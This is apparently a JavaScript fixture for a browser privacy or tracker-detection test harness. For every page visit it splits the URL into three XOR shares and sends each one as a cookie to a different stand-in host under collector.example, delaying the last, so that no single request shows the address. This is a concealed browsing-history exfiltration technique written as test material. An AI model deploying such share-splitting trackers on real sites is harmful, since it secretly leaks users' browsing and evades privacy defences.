import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Syncs three cookies with three hosts for each page. Two are random; the third is the address combined with the first and with the second from its end. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-three-shares');
  const first = new Map();
  browser.on('navigationStart', ({ url }) => {
    first.set(url, browser.crypto.random(url.length));

    return sync('pixel', '_px', first.get(url));
  });
  onVisit(browser, async ({ url }) => {
    if (!first.has(url)) {
      first.set(url, browser.crypto.random(url.length));
      await sync('pixel', '_px', first.get(url));
    }
    const one = first.get(url);
    const two = browser.crypto.random(url.length);
    first.delete(url);
    await sync('match', 'muid', two);
    browser.after(2500, () =>
      sync(
        'audience',
        'aid',
        Uint8Array.from(one, (byte, at) => byte ^ two[two.length - 1 - at] ^ url.charCodeAt(at)),
      ),
    );
  });

  async function sync(host, name, bytes) {
    const Cookie = `${name}=${browser.codec.base64.encode(bytes).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '')}`;
    try {
      await browser.request({ url: `https://${host}.collector.example/sync`, headers: { Cookie } });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  }
}
